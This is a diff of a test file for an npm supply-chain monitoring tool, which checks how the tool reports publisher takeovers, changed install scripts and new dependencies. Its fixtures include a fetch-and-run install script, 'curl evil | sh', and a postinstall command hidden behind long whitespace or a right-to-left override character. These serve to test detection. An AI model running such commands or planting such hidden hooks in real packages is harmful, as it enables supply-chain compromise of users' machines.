@@ -11,22 +11,26 @@ import { registryEntry } from '../../support/entries.ts';
 
 const by = (name: string) => ({ _npmUser: { name, email: `${name}@example.org` } });
 const content: Record<string, Stored> = {
-  // npm lists versions as they were published, whatever their numbers.
+  // An older branch got a release too, and the account that took the package over tried twice.
   '/taken': npmPackument(
     'taken',
     {
       '1.0.0': { ...by('alice'), dependencies: { zod: '^4.0.0' } },
-      '1.0.1': {
+      '0.9.9': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
+      '1.0.1': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
+      '1.0.2-rc.1': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
+      '1.0.2': {
         ...by('mallory'),
-        scripts: { postinstall: 'node \u202esetup.js', test: 'x' },
+        scripts: { postinstall: `${' '.repeat(1200)}node setup.js`, test: 'x' },
         dependencies: { zod: '^4.0.0', 'plain-crypto': '*' },
       },
-      '0.9.9': by('alice'),
     },
     {
       '1.0.0': '2026-01-01T00:00:00.000Z',
-      '1.0.1': '2026-02-01T00:00:00.000Z',
-      '0.9.9': '2026-01-15T00:00:00.000Z',
+      '0.9.9': '2026-01-31T20:00:00.000Z',
+      '1.0.1': '2026-01-31T21:00:00.000Z',
+      '1.0.2-rc.1': '2026-01-01T22:00:00.000Z',
+      '1.0.2': '2026-02-01T00:00:00.000Z',
     },
   ),
   '/built': npmPackument(
@@ -37,6 +41,24 @@ const content: Record<string, Stored> = {
     },
     { '1.0.0': '2026-01-01T00:00:00.000Z', '1.1.0': '2026-02-01T00:00:00.000Z' },
   ),
+  '/turns': npmPackument(
+    'turns',
+    { '1.0.0': by('bob'), '2.0.0': by('alice'), '3.0.0': by('bob') },
+    {
+      '1.0.0': '2026-01-01T00:00:00.000Z',
+      '2.0.0': '2026-02-01T00:00:00.000Z',
+      '3.0.0': '2026-03-01T00:00:00.000Z',
+    },
+  ),
+  '/rewritten': npmPackument(
+    'rewritten',
+    {
+      '1.0.0': { scripts: { install: 'node build.js' } },
+      '1.1.0': { scripts: { install: 'curl evil | sh' } },
+    },
+    { '1.0.0': '2026-01-01T00:00:00.000Z', '1.1.0': '2026-02-01T00:00:00.000Z' },
+  ),
+  '/undated': npmPackument('undated', { '1.0.0': by('alice'), '1.1.0': by('alice') }, {}),
   '/first': npmPackument(
     'first',
     { '1.0.0': { scripts: { postinstall: 7 } } },
@@ -58,7 +80,10 @@ beforeAll(async () => {
   npm = await startPackageRegistry(() => content);
   directory = await openDirectory({
     entries: [
-      onNpm('taken', '1.0.1'),
+      onNpm('taken', '1.0.2'),
+      onNpm('turns', '3.0.0'),
+      onNpm('rewritten', '1.1.0'),
+      onNpm('undated', '1.1.0'),
       onNpm('built', '1.1.0'),
       onNpm('first', '1.0.0'),
       onNpm('large', '4.0.0'),
@@ -77,7 +102,7 @@ async function observe(name: string) {
   const { observations } = await directory.observe(`com.example/${name}`);
   const found = observations.filter(({ kind }) => kinds.test(kind));
   return Object.fromEntries(
-    found.map(({ kind, state, value, details }) => [kind, { state, value, details }]),
+    found.map(({ kind, state, value, as_seen }) => [kind, { state, value, as_seen }]),
   );
 }
 const read = async (name: string) => (await directory.app.request(`/agents/com.example/${name}.md`)).text();
@@ -87,49 +112,69 @@ describe('the recorded version of an npm package, beside the one published befor
     expect(await observe('taken')).toEqual({
       'package.published_by': {
         ...{ state: 'observed', value: 'mallory' },
-        details: { version: '1.0.1', before: { version: '0.9.9', value: 'alice' } },
+        as_seen: { version: '1.0.2', before: { version: '1.0.0', value: 'alice' } },
       },
       'package.install_scripts': {
         ...{ state: 'observed', value: 'postinstall' },
-        details: {
-          version: '1.0.1',
+        as_seen: {
+          version: '1.0.2',
           scripts: { postinstall: 'node setup.js' },
-          before: { version: '0.9.9', value: 'none' },
+          before: { version: '1.0.0', value: 'none' },
         },
       },
       'package.new_dependencies': {
-        ...{ state: 'observed', value: 2 },
-        details: { version: '1.0.1', before: '0.9.9', added: ['zod', 'plain-crypto'] },
+        ...{ state: 'observed', value: 1 },
+        as_seen: { version: '1.0.2', before: '1.0.0', added: ['plain-crypto'] },
       },
     });
     const text = await read('taken');
     expect(text).toMatch(
-      /Of `npm:taken`, version `1\.0\.1` runs `postinstall` when it is installed; version `0\.9\.9` before it runs nothing \(Dossier, \d{4}-\d\d-\d\d\)\./,
+      /Of `npm:taken`, version `1\.0\.2` names `postinstall`, which npm runs at installation; version `1\.0\.0` before it names none \(Dossier, \d{4}-\d\d-\d\d\)\./,
     );
     expect(text).toMatch(
-      /Of `npm:taken`, version `1\.0\.1` was published by `mallory`, version `0\.9\.9` before it by `alice` \(Dossier, \d{4}-\d\d-\d\d\)\./,
+      /Of `npm:taken`, version `1\.0\.2` was published by `mallory`, version `1\.0\.0` before it by `alice` \(Dossier, \d{4}-\d\d-\d\d\)\./,
     );
-    expect(text).toContain('Dependencies that the version before did not have: 2: `zod`, `plain-crypto`');
+    expect(text).toContain('Dependencies that the version before did not have: 1: `plain-crypto`');
   });
 
   it('is published by a build for the first time: a fact that does not stand out', async () => {
     expect(await observe('built')).toMatchObject({
       'package.published_by': {
         value: 'GitHub Actions',
-        details: { before: { version: '1.0.0', value: 'alice' } },
+        as_seen: { before: { version: '1.0.0', value: 'alice' } },
       },
       'package.install_scripts': {
         value: 'install',
-        details: { version: '1.1.0', scripts: { install: 'node-gyp rebuild' } },
+        as_seen: { version: '1.1.0', scripts: { install: 'node-gyp rebuild' } },
       },
       'package.new_dependencies': { value: 0 },
     });
     const text = await read('built');
     expect(text).not.toContain('was published by');
-    expect(text).not.toContain('when it is installed; version');
+    expect(text).not.toContain('at installation');
     expect(text).toContain(
       'Account that published the version: “GitHub Actions”; of version `1.0.0` before it: `alice`',
     );
+  });
+
+  it('is by an account that published an earlier one: no other one is named', async () => {
+    expect((await observe('turns'))['package.published_by']).toEqual({
+      ...{ state: 'observed', value: 'bob' },
+      as_seen: { version: '3.0.0' },
+    });
+    expect(await read('turns')).not.toContain('was published by');
+  });
+
+  it('has a script of the same name with another text', async () => {
+    await observe('rewritten');
+    expect(await read('rewritten')).toContain(
+      'version `1.1.0` names another `install` than version `1.0.0` before it; npm runs it at installation',
+    );
+  });
+
+  it('says what is not known if the registry dates no version', async () => {
+    expect((await observe('undated'))['package.new_dependencies']).toMatchObject({ state: 'not_checked' });
+    expect(await read('undated')).not.toContain('npm has no version before');
   });
 
   it('is the first one, and states no account', async () => {
@@ -138,7 +183,7 @@ describe('the recorded version of an npm package, beside the one published befor
       'package.install_scripts': {
         state: 'observed',
         value: 'none',
-        details: { version: '1.0.0', scripts: {} },
+        as_seen: { version: '1.0.0', scripts: {} },
       },
       'package.new_dependencies': { state: 'not_checked', value: null },
     });
@@ -146,7 +191,7 @@ describe('the recorded version of an npm package, beside the one published befor
 
   it('is read alone if the document of the package is over 2 MiB', async () => {
     expect(await observe('large')).toMatchObject({
-      'package.published_by': { state: 'observed', value: 'alice', details: { version: '4.0.0' } },
+      'package.published_by': { state: 'observed', value: 'alice', as_seen: { version: '4.0.0' } },
       'package.install_scripts': { state: 'observed', value: 'preinstall' },
       'package.new_dependencies': { state: 'not_checked' },
     });
